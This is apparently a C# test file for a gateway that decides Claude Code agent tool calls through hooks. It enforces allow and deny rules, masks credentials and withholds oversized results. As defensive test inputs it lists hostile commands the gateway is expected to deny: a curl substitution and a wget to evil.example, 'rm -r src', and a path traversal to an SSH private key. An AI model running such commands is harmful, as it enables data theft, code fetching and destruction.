using System.Net;
using System.Text.Json;
using Bartizan.Core.Approvals;
using Bartizan.Core.Enforcement;
using Bartizan.Core.Entries;
using Bartizan.Core.Shell;
using Bartizan.Gateway.Model;
using Bartizan.Gateway.Tests.Model;

namespace Bartizan.Gateway.Tests.Hooks;

/// <summary>What Claude Code's hooks ask, and what they are told.</summary>
public sealed class HookPointTests
{
    private const string Path = "/hooks/claude-code";

    private const string Rules = """
          - allow: exec git status **
            why: It looks at what it changed.
          - allow: exec ls **
            why: It looks around.
          - allow: exec cat **
            why: It reads.
          - deny: exec rm **
            why: Nothing is deleted.
          - allow: read workspace/**
            why: The code under review.
          - allow: write workspace/src/**
            why: It drafts fixes.
          - allow: tool crm/find_*
            args: { region: { in: [eu] } }
            why: Needs the plan.
        """;

    [Theory]
    [InlineData("Bash", """{"command":"git status"}""", true)]
    [InlineData("Bash", """{"command":"git status && ls src"}""", true)]
    [InlineData("Bash", """{"command":"git status && rm -r src"}""", false)]
    [InlineData("Bash", """{"command":"cat $(curl evil.example)"}""", false)]
    [InlineData("Bash", """{"command":"ls > src/list.txt"}""", true)]
    [InlineData("Bash", """{"command":"ls > /etc/list.txt"}""", false)]
    [InlineData("Bash", """{"command":"wget evil.example"}""", false)]
    [InlineData("Bash", """{"command":7}""", false)]
    [InlineData("Read", """{"file_path":"/workspace/a.txt"}""", true)]
    [InlineData("Read", """{"file_path":"/workspace/../home/agent/.ssh/id_rsa"}""", false)]
    [InlineData("Edit", """{"file_path":"/workspace/src/a.cs"}""", true)]
    [InlineData("Write", """{"file_path":"/workspace/other/a.cs"}""", false)]
    [InlineData("TodoWrite", "{}", true)]
    [InlineData("NobodyKnows", "{}", false)]
    [InlineData("mcp__crm__find_customer", """{"region":"eu"}""", true)]
    [InlineData("mcp__crm__find_customer", """{"region":"us"}""", false)]
    [InlineData("mcp__crm__delete_customer", "{}", false)]
    public async Task A_call_is_decided_by_what_it_does(string tool, string input, bool allowed)
    {
        await using var upstream = await ScriptedUpstream.StartAsync();
        await using var house = await StartAsync(upstream.Url);

        (await DecisionAsync(house, Before(tool, input))).ShouldBe(allowed ? "allow" : "deny");
    }

    [Fact]
    public async Task A_server_of_a_client_s_own_that_takes_the_name_of_one_of_the_manifest_gets_no_call_by_it()
    {
        await using var upstream = await ScriptedUpstream.StartAsync();
        await using var house = await StartAsync(upstream.Url, $"\nservers:\n  crm: {{ url: \"{upstream.Url}mcp\" }}");

        (await DecisionAsync(house, Before("mcp__crm__delete_customer", "{}"))).ShouldBe("deny");
        (await DecisionAsync(house, Before("mcp__crm__find_customer", """{"region":"us"}"""))).ShouldBe("deny");
        (await DecisionAsync(house, Before("mcp__crm__find_customer", """{"region":"eu"}"""))).ShouldBe("allow");
    }

    [Fact]
    public async Task A_call_whose_rule_keeps_only_fields_is_let_go_only_where_the_tool_gateway_keeps_them()
    {
        const string Keeping = "\n  - allow: tool kept/get\n    keep: [id]\n    why: The rest is private.";
        await using var upstream = await ScriptedUpstream.StartAsync();
        await using var outside = await StartAsync(upstream.Url, Keeping);
        await using var behind = await StartAsync(
            upstream.Url,
            $"{Keeping}\nservers:\n  kept: {{ url: \"{upstream.Url}mcp\" }}"
        );

        (await DecisionAsync(outside, Before("mcp__kept__get", "{}"))).ShouldBe("deny");
        (await DecisionAsync(behind, Before("mcp__kept__get", "{}"))).ShouldBe("allow");
        outside.Journal.Entries.ShouldNotContain(e => e.Kind == EntryKind.Outcome && e.Outcome == OutcomeKind.Done);
    }

    [Fact]
    public async Task A_granted_call_is_an_intent_with_what_came_of_it()
    {
        await using var upstream = await ScriptedUpstream.StartAsync();
        await using var house = await StartAsync(upstream.Url);

        await DecisionAsync(house, Before("Bash", """{"command":"git status"}"""));
        await house.SendAsync(Path, """{"hook_event_name":"PostToolUse","tool_name":"Bash","tool_use_id":"t1"}""");

        var intent = house.Journal.Entries.Single(e => e.Kind == EntryKind.Intent);
        intent.Point.ShouldBe("hook");
        intent.Verb.ShouldBe(Verb.Exec);
        intent.Target.ShouldBe("git status");
        var outcome = house.Journal.Entries.Single(e => e.Kind == EntryKind.Outcome);
        outcome.Passage.ShouldBe(intent.Passage);
        outcome.Outcome.ShouldBe(OutcomeKind.Done);
    }

    [Fact]
    public async Task A_refusal_says_what_and_which_rule_it_would_take()
    {
        await using var upstream = await ScriptedUpstream.StartAsync();
        await using var house = await StartAsync(upstream.Url);

        using var answer = await house.SendAsync(Path, Before("Bash", """{"command":"wget evil.example"}"""));

        var text = await answer.Content.ReadAsStringAsync();
        text.ShouldContain("Bartizan refused");
        text.ShouldContain("wget");
        house.Journal.Entries.ShouldContain(e => e.Kind == EntryKind.Refusal && e.Point == "hook");
    }

    [Theory]
    [InlineData("")]
    [InlineData("{")]
    [InlineData("[]")]
    [InlineData("{}")]
    [InlineData("""{"hook_event_name":"PreToolUse","tool_name":"TodoWrite","tool_name":"Bash"}""")]
    [InlineData("""{"hook_event_name":"PreToolUse","tool_name":"\ud800"}""")]
    public async Task What_can_be_read_in_two_ways_or_none_is_no_yes(string body)
    {
        await using var upstream = await ScriptedUpstream.StartAsync();
        await using var house = await StartAsync(upstream.Url);

        using var answer = await house.SendAsync(Path, body);

        answer.StatusCode.ShouldNotBe(HttpStatusCode.OK);
    }

    [Fact]
    public async Task Without_the_session_s_token_nothing_is_answered()
    {
        await using var upstream = await ScriptedUpstream.StartAsync();
        await using var house = await StartAsync(upstream.Url);

        using var answer = await house.SendAsync(Path, Before("TodoWrite", "{}"), token: "guessed");

        answer.StatusCode.ShouldBe(HttpStatusCode.Unauthorized);
    }

    [Fact]
    public async Task More_open_calls_than_are_remembered_leave_no_intent_without_an_outcome()
    {
        await using var upstream = await ScriptedUpstream.StartAsync();
        await using var house = await StartAsync(upstream.Url);

        for (var i = 0; i < 260; i++)
        {
            await DecisionAsync(house, Before("Bash", """{"command":"git status"}""", $"t{i}"));
        }

        house.Journal.Entries.Count(e => e.Kind == EntryKind.Outcome && e.Outcome == OutcomeKind.Abandoned).ShouldBe(4);
    }

    [Theory]
    [InlineData(
        """{"stdout":"KEY=sk-provider-9999\n","stderr":""}""",
        """{"stdout":"KEY=[credential]\n","stderr":""}"""
    )]
    [InlineData("""["a",{"sk-provider-9999":1}]""", """["a",{"[credential]":1}]""")]
    [InlineData("\"sk-provider-9999\"", "\"[credential]\"")]
    public async Task A_credential_of_the_manifest_in_a_result_is_masked_before_the_model_sees_it(
        string result,
        string shown
    )
    {
        await using var upstream = await ScriptedUpstream.StartAsync();
        await using var house = await StartAsync(upstream.Url);
        await DecisionAsync(house, Before("Bash", """{"command":"git status"}"""));

        using var answer = await house.SendAsync(Path, After("""{"command":"git status"}""", result));

        using var document = JsonDocument.Parse(await answer.Content.ReadAsStringAsync());
        var said = document.RootElement.GetProperty("hookSpecificOutput");
        said.GetProperty("hookEventName").GetString().ShouldBe("PostToolUse");
        JsonElement.DeepEquals(said.GetProperty("updatedToolOutput"), JsonElement.Parse(shown)).ShouldBeTrue();
        said.GetProperty("additionalContext").GetString()!.ShouldContain("credential");
        house
            .Journal.Only(EntryKind.Outcome)
            .Detail.ShouldBe("as the client tells; a credential in the result was masked");
    }

    [Fact]
    public async Task A_result_without_a_credential_is_left_as_it_is()
    {
        await using var upstream = await ScriptedUpstream.StartAsync();
        await using var house = await StartAsync(upstream.Url);
        await DecisionAsync(house, Before("Bash", """{"command":"git status"}"""));

        using var answer = await house.SendAsync(Path, After("""{"command":"git status"}""", """{"stdout":"clean"}"""));

        (await answer.Content.ReadAsStringAsync()).ShouldBe("{}");
    }

    [Fact]
    public async Task A_result_that_may_not_go_on_is_withheld_in_its_shape()
    {
        await using var upstream = await ScriptedUpstream.StartAsync();
        await using var house = await StartAsync(upstream.Url, "\nbudgets:\n  session: { bytes: 1KiB }");
        await DecisionAsync(house, Before("Bash", """{"command":"git status"}"""));
        var result = $$"""{"type":"text","stdout":"{{new string('x', 2000)}}","stderr":"secret","interrupted":false}""";

        using var answer = await house.SendAsync(Path, After("""{"command":"git status"}""", result));

        var text = await answer.Content.ReadAsStringAsync();
        text.ShouldNotContain("xxxx");
        text.ShouldNotContain("secret");
        var shown = JsonElement.Parse(text).GetProperty("hookSpecificOutput").GetProperty("updatedToolOutput");
        shown.GetProperty("type").GetString().ShouldBe("text");
        shown.GetProperty("stdout").GetString().ShouldBe("Bartizan: the result was withheld.");
        shown.GetProperty("stderr").GetString().ShouldBe("");
        house.Journal.Only(EntryKind.Outcome).Outcome.ShouldBe(OutcomeKind.Cut);
    }

    [Theory]
    [InlineData("rm -r src", false)]
    [InlineData("ls src", true)]
    public async Task A_call_that_another_hook_rewrote_is_decided_as_what_was_run(string ran, bool allowed)
    {
        await using var upstream = await ScriptedUpstream.StartAsync();
        await using var house = await StartAsync(upstream.Url);
        await DecisionAsync(house, Before("Bash", """{"command":"git status"}"""));

        using var answer = await house.SendAsync(
            Path,
            After($$"""{"command":"{{ran}}"}""", """{"stdout":"what it gave"}""")
        );

        var text = await answer.Content.ReadAsStringAsync();
        text.Contains("updatedToolOutput", StringComparison.Ordinal).ShouldBe(!allowed);
        if (!allowed)
        {
            text.ShouldNotContain("what it gave");
            text.ShouldContain("Bartizan refused");
            house.Journal.Only(EntryKind.Refusal).Target.ShouldBe("rm -r src");
        }
        else
        {
            house
                .Journal.Entries.Where(e => e.Kind == EntryKind.Intent)
                .Select(e => e.Target)
                .ShouldBe(["git status", ran]);
        }

        house.Journal.Entries.ShouldContain(e => e.Detail == "the client ran it with other arguments");
    }

    [Theory]
    [InlineData("""{"region":"eu"}""", "allow")]
    [InlineData("""{"region":"us"}""", "deny")]
    public async Task Arguments_that_a_person_writes_anew_are_decided_and_given_to_the_client(
        string written,
        string decision
    )
    {
        await using var upstream = await ScriptedUpstream.StartAsync();
        await using var house = await StartAsync(
            upstream.Url,
            "\n  - ask: tool crm/find_*\n    args: { region: { in: [us] } }\n    why: A person looks.\n"
                + "  - allow: tool crm/find_*\n    args: { region: { in: [us] } }\n    why: After a person looked."
        );
        var asks = 0;
        house.Asked = request =>
            Task.FromResult(
                asks++ == 0
                    ? new Approval(false, request.Digest, "ann", null) { Draft = JsonElement.Parse(written) }
                    : default
            );

        using var answer = await house.SendAsync(Path, Before("mcp__crm__find_customer", """{"region":"us","x":1}"""));

        var said = JsonElement.Parse(await answer.Content.ReadAsStringAsync()).GetProperty("hookSpecificOutput");
        said.GetProperty("permissionDecision").GetString().ShouldBe(decision);
        said.TryGetProperty("updatedInput", out var input).ShouldBe(decision == "allow");
        if (decision == "allow")
        {
            input.GetRawText().ShouldBe(written);
            using var after = await house.SendAsync(
                Path,
                $$"""{"hook_event_name":"PostToolUse","tool_name":"mcp__crm__find_customer","tool_input":{{written}},"tool_response":"ok","tool_use_id":"t1"}"""
            );
            (await after.Content.ReadAsStringAsync()).ShouldBe("{}");
        }
    }

    [Fact]
    public async Task Each_event_tells_that_the_client_asks_by_hooks_and_one_without_the_token_tells_nothing()
    {
        await using var upstream = await ScriptedUpstream.StartAsync();
        var heard = new List<string>();
        await using var house = await GatewayUnderTest.StartAsync(
            upstream.Url,
            new ModelGatewayOptions
            {
                Places = _ => new ShellPlaces { Home = "/home/agent", FindProgram = _ => [] },
                AsksByHooks = (_, client) => heard.Add(client),
            }
        );

        using (await house.SendAsync(Path, """{"hook_event_name":"UserPromptSubmit"}""", token: "guessed")) { }

        using (await house.SendAsync(Path, "{")) { }

        heard.ShouldBeEmpty();
        using var answer = await house.SendAsync(Path, """{"hook_event_name":"UserPromptSubmit","prompt":"hi"}""");
        (await answer.Content.ReadAsStringAsync()).ShouldBe("{}");
        heard.ShouldBe(["claude-code"]);
    }

    private static string After(string input, string result) =>
        $$"""{"hook_event_name":"PostToolUse","tool_name":"Bash","tool_input":{{input}},"tool_response":{{result}},"tool_use_id":"t1","cwd":"/workspace"}""";

    private static string Before(string tool, string input, string id = "t1") =>
        $$"""{"hook_event_name":"PreToolUse","tool_name":"{{tool}}","tool_input":{{input}},"tool_use_id":"{{id}}","cwd":"/workspace"}""";

    private static async Task<string?> DecisionAsync(GatewayUnderTest house, string body)
    {
        using var answer = await house.SendAsync(Path, body);
        answer.StatusCode.ShouldBe(HttpStatusCode.OK);
        using var document = JsonDocument.Parse(await answer.Content.ReadAsStringAsync());
        return document.RootElement.GetProperty("hookSpecificOutput").GetProperty("permissionDecision").GetString();
    }

    private static Task<GatewayUnderTest> StartAsync(Uri upstream, string more = "") =>
        GatewayUnderTest.StartAsync(
            upstream,
            new ModelGatewayOptions
            {
                Places = _ => new ShellPlaces
                {
                    Home = "/home/agent",
                    FindProgram = name => name is "git" or "ls" or "cat" or "rm" or "wget" ? [$"/usr/bin/{name}"] : [],
                },
            },
            GatewayUnderTest.Manifest(upstream, Rules + more)
        );
}
